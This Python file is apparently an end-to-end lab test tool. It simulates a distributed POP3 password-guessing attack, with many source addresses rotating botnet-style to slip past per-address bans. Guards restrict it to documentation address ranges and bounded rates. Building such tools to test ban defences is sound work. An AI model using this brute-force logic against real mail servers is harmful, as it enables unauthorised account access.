"""A distributed POP3 dictionary attack for the e2e lab (``python -m tests.e2e.tools.swarm``), run
inside one attacker namespace that holds many source addresses: every guess is one connection
bound to its source address, USER/PASS, QUIT (see :func:`try_login`).

Schedule: ``--guesses`` rounds; in each round every source makes one guess, the sources spread
evenly over ``--seconds / guesses`` (a botnet's round robin: each address comes back once per
round). A source's guesses never overlap (the next one waits for the previous one). A guess
whose connection fails (dropped by a ban: connect timeout) is recorded as ``blocked`` and not
retried (a bot moves on). One JSON object per guess to ``--out``:
``{"t": start, "src": ip, "user": u, "result": "fail"|"found"|"blocked"|"error", "secs": ...}``.

Bounded: at most 500 sources, 20 guesses each, 600 s, 32 connections at once; the target must
be a documentation address, and so must every source.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import poplib
import socket
import sys
import threading
import time

DOC_NETS = tuple(ipaddress.ip_network(n) for n in
                 ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24", "2001:db8::/32"))


def _doc(host: str) -> None:
    if not any(ipaddress.ip_address(host) in n for n in DOC_NETS):
        raise SystemExit(f"{host} is not a documentation address: refusing")


def try_login(host: str, src: str, user: str, password: str, timeout: float) -> tuple[str, str | None]:
    """One connection from ``src``, one POP3 login: ok | fail | blocked | error."""
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        s.bind((src, 0))
        s.connect((host, 110))
    except OSError as e:
        s.close()
        return "blocked", f"{type(e).__name__}: {e}"
    c = poplib.POP3.__new__(poplib.POP3)
    c.host, c.port, c.sock = host, 110, s
    c._tls_established = False
    c._debugging = 0
    c.encoding = "UTF-8"
    try:
        c.file = s.makefile("rb")
        c.welcome = c._getresp()
        c.user(user)
        c.pass_(password)
        c.quit()
        return "ok", None
    except poplib.error_proto as e:
        try:
            c.quit()
        except Exception:  # noqa: BLE001 - best effort
            pass
        return "fail", str(e)[:200]
    except (OSError, EOFError) as e:
        return "error", f"{type(e).__name__}: {e}"
    finally:
        s.close()


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", required=True)
    ap.add_argument("--sources", required=True, help="comma-separated source addresses")
    ap.add_argument("--user", required=True)
    ap.add_argument("--passwords", required=True, help="comma-separated")
    ap.add_argument("--guesses", type=int, default=2, help="guesses per source")
    ap.add_argument("--seconds", type=float, default=60.0)
    ap.add_argument("--timeout", type=float, default=3.0)
    ap.add_argument("--out", required=True)
    a = ap.parse_args()
    srcs = [s for s in a.sources.split(",") if s]
    pwds = [p for p in a.passwords.split(",") if p]
    _doc(a.host)
    for s in srcs:
        _doc(s)
    if len(srcs) > 500 or not 1 <= a.guesses <= 20 or a.seconds > 600:
        raise SystemExit("bounded: at most 500 sources, 20 guesses each, 600 s")
    out = open(a.out, "a", encoding="utf-8", buffering=1)  # noqa: SIM115
    lock = threading.Lock()
    gate = threading.Semaphore(32)
    t0 = time.monotonic()
    per_round = a.seconds / a.guesses

    def source(i: int, src: str) -> None:
        for g in range(a.guesses):
            at = t0 + g * per_round + i * per_round / len(srcs)
            time.sleep(max(0.0, at - time.monotonic()))
            if time.monotonic() > t0 + a.seconds + 30:
                return
            pw = pwds[(i * a.guesses + g) % len(pwds)]
            with gate:
                t, m = time.time(), time.monotonic()
                res, err = try_login(a.host, src, a.user, pw, a.timeout)
            rec = {"t": t, "src": src, "user": a.user, "result": "found" if res == "ok" else res,
                   "secs": round(time.monotonic() - m, 3), "err": err}
            with lock:
                out.write(json.dumps(rec) + "\n")

    threads = [threading.Thread(target=source, args=(i, s), daemon=True) for i, s in enumerate(srcs)]
    for th in threads:
        th.start()
    for th in threads:
        th.join(max(0.0, t0 + a.seconds + 60 - time.monotonic()))
    print("done", flush=True)


if __name__ == "__main__":
    sys.exit(main())
